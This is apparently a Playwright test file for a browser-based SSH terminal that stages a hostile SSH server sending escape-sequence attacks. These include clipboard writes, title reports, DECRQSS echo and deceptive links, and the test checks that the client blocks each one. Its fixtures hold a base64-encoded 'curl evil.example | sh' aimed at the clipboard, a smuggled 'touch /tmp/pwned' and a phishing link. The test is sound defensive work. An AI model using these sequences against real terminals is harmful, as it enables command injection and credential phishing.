// A shell that prints every escape sequence a terminal can be attacked with: OSC 52 (write and read the
// clipboard), titles (OSC 0/2) and the reports that would type them back (CSI 21 t / 20 t), DECRQSS with
// a command as its request, a colour query, and links whose text lies about where they lead. The
// clipboard keeps what the user put there, the page keeps Warren's title, the shell receives only
// xterm's fixed-form replies (never a byte of what the server sent), and a link opens only after a
// confirmation that shows where it really leads. Real hostile SSH server, real Chromium.
import { expect, test, type Page } from '@playwright/test';
import { startHostileServer, type HostileServer } from '../harness/hostile.js';
import { appUrl, openHost } from './app.js';

const HOST = 'hostile-box';
const CLIPBOARD = 'what the user copied';
const STOLEN = Buffer.from('curl evil.example | sh\n').toString('base64');
const TITLE = 'Warren vault unlocked: type your passphrase';
const ECHOED = 'touch /tmp/pwned\r';
/** the link's text on screen says one thing, its target is another */
const SHOWN = 'https://bank.example/login';
const REAL = 'https://evil.example/steal?session=1';
const PLAIN = 'https://docs.example/guide';
const LOCAL = 'file:///etc/passwd';

const output = [
  `\u001b]52;c;${STOLEN}\u0007`, // write the clipboard
  '\u001b]52;c;?\u0007', // read it back to the server
  `\u001b]0;${TITLE}\u0007\u001b]2;${TITLE}\u0007`,
  '\u001b[21t\u001b[20t', // report the title / icon title (typed into the shell as if by the user)
  '\u001bP$qm\u001b\\', // DECRQSS: the SGR state
  `\u001bP$q${ECHOED}\u001b\\`, // DECRQSS with a command for a request: old xterm echoed it back
  '\u001b]11;?\u0007', // the background colour
  // each link at the start of its row, where clickLink clicks
  `\r\n\u001b]8;;${REAL}\u0007${SHOWN}\u001b]8;;\u0007\r\n`,
  `\u001b]8;;${LOCAL}\u0007local-file-link\u001b]8;;\u0007\r\n`,
  `${PLAIN} (plain text)\r\n`,
  'hostile-ready\r\n',
].join('');
/**
 * Everything the terminal may send on its own in answer: xterm's DECRQSS replies (a fixed `0m`, and
 * "invalid" for the rest, without the request) and the theme's background colour. No title report.
 */
const REPLIES = '\u001bP1$r0m\u001b\\' + '\u001bP0$r\u001b\\' + '\u001b]11;rgb:0f0f/1111/1515\u001b\\';

/** the reason text of a DISCONNECT in the middle of the session: clear the screen, set the title, draw a prompt */
const REASON = `\u001b[2J\u001b[H\u001b]0;${TITLE}\u0007warren$ `;

let server: HostileServer;
let dropping: HostileServer;
test.beforeAll(async () => {
  server = await startHostileServer({ output });
  dropping = await startHostileServer({ output: 'shell-up\r\n', disconnectInShell: REASON });
});
test.afterAll(async () => {
  await Promise.all([server.close(), dropping.close()]);
});

/** clicks the start of the terminal row that begins with `text`, once xterm shows it as a link there */
async function clickLink(page: Page, text: string): Promise<void> {
  const term = page.getByTestId('terminal');
  const box = (await term.locator('.xterm-rows > div', { hasText: text }).boundingBox())!;
  await page.mouse.move(box.x + 20, box.y + box.height / 2);
  await expect(term.locator('.xterm-screen')).toHaveClass(/xterm-cursor-pointer/);
  await page.mouse.down();
  await page.mouse.up();
}

test('escape sequences from the server reach neither the clipboard, the title nor the shell; links open only once confirmed', async ({ page, context }) => {
  const origin = new URL(appUrl()).origin;
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
  const opened: string[] = [];
  context.on('page', (p) => opened.push(p.url()));
  await context.route(PLAIN, (route) => route.fulfill({ contentType: 'text/html', body: '<title>docs</title>' }));

  await page.goto(appUrl());
  const title = await page.title();
  await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(CLIPBOARD)})`);
  await openHost(page, { name: HOST, port: server.port }, 'row-connect');
  const term = page.getByTestId('terminal');
  await expect(term.locator('.xterm-rows')).toContainText('hostile-ready', { timeout: 20_000 });
  await expect.poll(() => server.typed[0] ?? '').toContain('\u001b]11;');

  // the shell got xterm's fixed-form replies and nothing the server wrote
  expect(server.typed[0]).toBe(REPLIES);
  for (const sent of [STOLEN, TITLE, ECHOED, 'pwned', 'l' + TITLE, 'L' + TITLE]) expect(server.typed[0]).not.toContain(sent);
  // the clipboard keeps what the user put there; the page and its tab keep Warren's names
  expect(await page.evaluate('navigator.clipboard.readText()')).toBe(CLIPBOARD);
  await expect(page).toHaveTitle(title);
  await expect(page.getByTestId('tab')).toHaveText(HOST);
  await expect(page.getByText(TITLE)).toHaveCount(0);

  // an OSC 8 link: the confirmation shows where it really leads; nothing opens until it is confirmed
  await clickLink(page, SHOWN);
  const confirm = page.getByTestId('link-confirm');
  await expect(confirm.getByTestId('link-uri')).toHaveText(REAL);
  await expect(confirm.getByTestId('link-host')).toHaveText('evil.example');
  await page.waitForTimeout(300);
  expect(opened).toEqual([]);
  await confirm.getByTestId('cancel').click();
  await expect(confirm).toHaveCount(0);
  expect(opened).toEqual([]);

  // a file: link is refused by name, and offers nothing to open
  await clickLink(page, 'local-file-link');
  await expect(confirm).toHaveAttribute('data-refused', 'true');
  await expect(confirm.getByTestId('link-uri')).toHaveText(LOCAL);
  await expect(confirm.getByTestId('link-refused')).toContainText('only http and https links');
  await expect(confirm.getByTestId('link-open')).toHaveCount(0);
  await confirm.getByTestId('cancel').click();

  // a plain URL in the text goes the same way, and opens in a new tab once confirmed
  await clickLink(page, PLAIN);
  await expect(confirm.getByTestId('link-uri')).toHaveText(PLAIN);
  expect(opened).toEqual([]);
  const tab = context.waitForEvent('page');
  await confirm.getByTestId('link-open').click();
  await expect(confirm).toHaveCount(0);
  const popup = await tab;
  await expect.poll(() => popup.url()).toBe(PLAIN);
  expect(await popup.evaluate('window.opener')).toBeNull();
  await popup.close();

  // and through all of it the shell received nothing more
  expect(server.typed[0]).toBe(REPLIES);
});

test("a server's disconnect reason is written into the terminal with its controls visible", async ({ page }) => {
  await openHost(page, { name: 'dropping-box', port: dropping.port }, 'row-connect');
  const rows = page.getByTestId('terminal').locator('.xterm-rows');
  await expect(rows).toContainText('[connection lost:', { timeout: 20_000 });
  await expect(rows).toContainText('\\e[2J\\e[H\\e]0;Warren vault unlocked');
  await expect(rows).toContainText('shell-up'); // the screen was not cleared
  await expect(page).toHaveTitle('Warren');
});
